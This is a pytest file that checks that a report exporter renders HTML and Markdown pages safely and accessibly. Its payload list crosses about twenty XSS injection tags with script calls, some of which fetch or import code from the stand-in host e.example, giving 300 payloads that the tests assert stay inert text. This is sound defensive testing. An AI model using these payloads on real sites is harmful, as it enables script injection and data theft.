"""The page stands alone, says the same thing in charts and tables, and nothing in it runs."""

import io
import re
from html.parser import HTMLParser
from itertools import pairwise

import html5lib
import pytest
from bs4 import BeautifulSoup
from catalogues import made

from gpkit.exporters._labels import Labels
from gpkit.report import html, markdown, report
from gpkit.report.health import Cause, Changes, Health, Rule
from gpkit.text.clean import one_line

CATALOGUE = [
    made(
        n,
        published=f"20{10 + n % 9}-01-01",
        facets={
            "country": (("BG", "LV", "MT", "other", "US")[n % 5],),
            "digital_technology": (("software", "blockchain")[n % 2],),
            "target_audience": (),
        },
    )
    for n in range(40)
]
_TAGS = ["<script>{0}</script>", '"><script>{0}</script>', "<img src=x onerror={0}>"]
_TAGS += ["<svg onload={0}>", "</title><script>{0}</script>", "</style><script>{0}</script>"]
_TAGS += ["<a href='javascript:{0}'>x</a>", "' onmouseover='{0}", '" autofocus onfocus="{0}']
_TAGS += ["<iframe srcdoc='<script>{0}</script>'>", "--><script>{0}</script>", "{{{{{0}}}}}"]
_TAGS += ["{{% {0} %}}", "<details open ontoggle={0}>", "<math><mi xlink:href='javascript:{0}'>"]
_TAGS += ["&lt;script&gt;{0}&lt;/script&gt;", "<style>*{{background:url({0})}}</style>"]
_TAGS += ["]]><script>{0}</script>", "<base href={0}>", "</svg><script>{0}</script>"]
_CALLS = ["alert(1)", "alert`1`", "fetch('//e.example')", "top.location='//e.example'"]
_CALLS += ["eval(atob('YQ=='))", "alert(1)//\u2028", "\u202ealert(1)", "alert(1)\x00"]
_CALLS += ["import('//e.example')", "alert&#40;1)", "\ud800alert(1)", "confirm(1)", "prompt(1)"]
_CALLS += ["document.write(1)", "window.name='x'"]
PAYLOADS = [tag.format(call) for tag in _TAGS for call in _CALLS]


def test_there_are_300():
    assert len(set(PAYLOADS)) == 300


def hostile_everywhere(payloads):
    """A report in which every word that comes from a page or a file is a payload."""
    rules = tuple(Rule(p, "error", p, 1, 1, p, p) for p in payloads)
    causes = tuple(Cause(p, p, p, p, 1) for p in payloads)
    practices = [
        made(
            n,
            title=payload,
            family=payload,
            language=payload,
            published=payload[:4] or None,
            facets={
                "country": (payload, "BG"),
                "digital_technology": (payload,),
                "target_audience": ("x", payload)[n % 2 :],
                payload: (payload,),
            },
        )
        for n, payload in enumerate([*payloads, *payloads])
    ]
    changes = Changes(payloads[0], 1, 1, causes, tuple(payloads))
    return practices, {"health": Health(1, 1, 0, 0, 0, 0, rules), "changes": changes}


class Seen(HTMLParser):
    """What a browser would find in a page: tags, and attributes that run or fetch."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.running, self.fetching = set(), [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            runs = name.startswith("on") or "javascript:" in (value or "").lower()
            if runs and name != "aria-label":
                self.running.append((tag, name))
            if name in ("src", "srcdoc", "href", "xlink:href", "action", "data"):
                self.fetching.append((tag, name, value))


@pytest.fixture(scope="module")
def plain():
    """The tags and targets of a page without anything hostile in it."""
    practices, more = hostile_everywhere([f"word {n}" for n in range(30)])
    out = io.StringIO()
    html.write(report(practices, Labels("en"), **more), out)
    return Seen(out.getvalue())


@pytest.mark.parametrize("part", range(10))
def test_300_payloads_stay_words(part, page, plain):
    practices, more = hostile_everywhere(PAYLOADS[part::10])
    text = page(practices, **more)
    seen = Seen(text)
    assert seen.tags == plain.tags
    assert seen.running == []
    assert seen.fetching == plain.fetching
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)
    shown = BeautifulSoup(text, "lxml").get_text()
    assert all(one_line(payload) in shown for payload in PAYLOADS[part::10])


@pytest.mark.parametrize("payloads", [[], PAYLOADS[::30]])
def test_the_page_is_parsed_without_an_error(page, payloads):
    practices, more = hostile_everywhere(payloads) if payloads else (CATALOGUE, {})
    html5lib.HTMLParser(strict=True).parse(page(practices, **more))


def test_the_page_loads_nothing_and_runs_nothing(page):
    seen = Seen(page(CATALOGUE))
    assert seen.tags.isdisjoint({"script", "iframe", "object", "embed", "img", "form"})
    targets = [value for _, _, value in seen.fetching]
    assert all(value.startswith("#") or value == "data:," for value in targets)
    assert "default-src 'none'" in page(CATALOGUE)
    assert "url(" not in page(CATALOGUE)


def test_every_link_inside_the_page_leads_somewhere(page):
    soup = BeautifulSoup(page(CATALOGUE), "lxml")
    ids = [tag["id"] for tag in soup.find_all(id=True)]
    assert len(ids) == len(set(ids))
    pointed = [a["href"][1:] for a in soup.find_all("a")]
    named = [
        i
        for tag in soup.find_all(attrs={"aria-labelledby": True})
        for i in tag["aria-labelledby"].split()
    ]
    assert set(pointed + named) <= set(ids)


def test_every_chart_has_a_name_and_a_table_with_all_its_numbers(page):
    soup = BeautifulSoup(page(CATALOGUE), "lxml")
    for svg in soup.find_all("svg"):
        assert svg["role"] == "img"
        assert svg.title.string
        assert svg.desc.string
    for figure in soup.find_all("figure"):
        shown = {t.string for t in figure.svg.find_all("text") if t.string}
        cells = {c.get_text() for c in figure.table.find_all(["th", "td"])}
        years = {words for words in shown if re.fullmatch(r"20\d\d", words)}
        assert shown - years <= cells
        assert figure.figcaption.get_text()


def test_headings_go_down_one_by_one(page):
    soup = BeautifulSoup(page(CATALOGUE), "lxml")
    levels = [int(tag.name[1]) for tag in soup.find_all(["h1", "h2", "h3", "h4"])]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(b - a <= 1 for a, b in pairwise(levels))


def test_countries_off_the_map_are_named(page):
    text = BeautifulSoup(page(CATALOGUE), "lxml").get_text(" ", strip=True)
    assert "Not on the map: United States 8" in text
    assert "No single country: Other 8" in text


def test_the_same_practices_give_the_same_page(page):
    assert page(CATALOGUE) == page(CATALOGUE)


@pytest.mark.parametrize("lang", ["bg", "el", "ga", "mt"])
def test_labels_in_another_language(page, lang):
    text = page(CATALOGUE, lang)
    assert '<html lang="en">' in text
    assert f'<th scope="row" lang="{lang}">{Labels(lang).concept("country", "BG")}</th>' in text


@pytest.mark.parametrize("practices", [[made(1)], [made(1, title=None, language=None)]])
def test_a_catalogue_without_facets_has_a_page(page, practices):
    text = page(practices)
    assert "No practice has a facet" in text
    assert "<svg" not in text


def test_a_far_year_does_not_stretch_the_chart(page):
    practices = [made(1, published="0024"), made(2, published="2024"), made(3, published="2023")]
    assert "year-published" in page(practices)


# Markdown -----------------------------------------------------------------------------------------


def test_markdown_has_tables_and_no_markup_of_pages():
    from markdown_it import MarkdownIt

    marks = ["a | b", "[x](http://e.example)", "# h", "`c`", "* x", "a\n# h"]
    for payload in [*PAYLOADS[::7], *marks]:
        practices, more = hostile_everywhere([payload])
        out = io.StringIO()
        markdown.write(report(practices, Labels("en"), **more), out)
        tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(out.getvalue())
        kinds = {t.type for t in tokens} | {c.type for t in tokens for c in t.children or ()}
        assert kinds.isdisjoint({"html_block", "html_inline", "link_open", "image", "fence"})
        headings = [t for t in tokens if t.type == "heading_open"]
        assert {t.tag for t in headings} == {"h1", "h2"}
        columns = [line.count(" | ") for line in out.getvalue().split("\n") if line[:2] == "| "]
        assert max(columns) < 12
